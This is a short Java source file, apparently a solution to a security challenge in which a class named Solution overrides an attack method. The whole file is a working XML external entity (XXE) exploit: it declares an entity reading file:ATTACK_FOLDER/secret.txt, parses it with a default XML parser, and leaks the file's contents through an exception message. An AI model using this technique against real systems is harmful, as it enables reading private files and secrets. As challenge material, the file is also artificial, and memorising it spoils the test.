import java.io.ByteArrayInputStream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.tensorflow.op.Ops;

public class Solution extends AttackedSigmoid {
    @Override
    protected void attack(Ops tf) throws Throwable {
        String document = "<!DOCTYPE d [<!ENTITY secret SYSTEM \"file:ATTACK_FOLDER/secret.txt\">]><d>&secret;</d>";
        throw new IllegalStateException(DocumentBuilderFactory.newInstance()
                .newDocumentBuilder()
                .parse(new ByteArrayInputStream(document.getBytes()))
                .getDocumentElement()
                .getTextContent());
    }
}
